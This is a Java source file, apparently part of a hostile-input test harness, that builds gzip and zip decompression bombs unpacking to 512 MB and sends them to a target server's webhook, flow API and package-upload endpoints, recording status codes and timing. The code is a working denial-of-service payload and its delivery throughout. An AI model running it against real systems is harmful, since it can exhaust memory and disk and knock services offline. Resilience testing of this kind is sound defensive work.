package io.millrace.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Small body that unpacks to half a gigabyte. */
record PackedBody(Shape shape) implements Attack {
    private static final int MEGABYTES = 512;
    private static final byte[] GZIP = gzip();
    private static final byte[] ZIP = zip();
    private static final String BOUNDARY = "a-boundary";

    /** Route and encoding of the request. */
    enum Shape {
        DEFLATED_WEBHOOK,
        DEFLATED_API,
        PIECE_ARCHIVE,
        ZIP_FILE
    }

    @Override
    public void once(AttackTarget target, AnswerCounts answers) throws IOException {
        var since = System.nanoTime();
        try (var wire = Wire.open(target.port())) {
            switch (shape) {
                case DEFLATED_WEBHOOK ->
                    deflated(wire, target.webhook(target.flows().echo()), "");
                case DEFLATED_API ->
                    deflated(wire, "/api/v1/flows/" + target.flows().echo(), target.authorization());
                case PIECE_ARCHIVE -> file(wire, "/api/v1/pieces", target.authorization(), "pieceArchive", GZIP);
                case ZIP_FILE -> file(wire, target.webhook(target.flows().unzip()), "", "file", ZIP);
            }
            answers.add("bomb, " + LargeBody.name(shape), wire.status(), since);
        }
    }

    private static void deflated(Wire wire, String path, String headers) throws IOException {
        wire.send(AttackTarget.head(path, headers) + "Content-Type: application/json\r\nContent-Encoding: gzip\r\n"
                + "Content-Length: " + GZIP.length + "\r\n\r\n");
        wire.isTaken(GZIP);
    }

    private static void file(Wire wire, String path, String headers, String field, byte[] file) throws IOException {
        var begin = field("packageType", "ARCHIVE") + field("pieceName", "@hostile/piece-bomb")
                + field("pieceVersion", "1.0.0") + field("scope", "PLATFORM")
                + "--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + field
                + "\"; filename=\"bomb\"\r\nContent-Type: application/octet-stream\r\n\r\n";
        var end = "\r\n--" + BOUNDARY + "--\r\n";
        wire.send(AttackTarget.head(path, headers) + "Content-Type: multipart/form-data; boundary=" + BOUNDARY
                + "\r\nContent-Length: " + (begin.length() + file.length + end.length()) + "\r\n\r\n" + begin);
        if (wire.isTaken(file)) {
            wire.isTaken(end.getBytes(StandardCharsets.US_ASCII));
        }
    }

    private static String field(String name, String value) {
        return "--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n";
    }

    private static byte[] gzip() {
        var bytes = new ByteArrayOutputStream();
        try (var packed = new GZIPOutputStream(bytes)) {
            writeNothing(packed);
        } catch (IOException failure) {
            throw new UncheckedIOException(failure);
        }
        return bytes.toByteArray();
    }

    private static byte[] zip() {
        var bytes = new ByteArrayOutputStream();
        try (var packed = new ZipOutputStream(bytes)) {
            packed.putNextEntry(new ZipEntry("bomb"));
            writeNothing(packed);
            packed.closeEntry();
        } catch (IOException failure) {
            throw new UncheckedIOException(failure);
        }
        return bytes.toByteArray();
    }

    private static void writeNothing(OutputStream packed) throws IOException {
        var nothing = new byte[1 << 20];
        for (var megabyte = 0; megabyte < MEGABYTES; megabyte++) {
            packed.write(nothing);
        }
    }
}
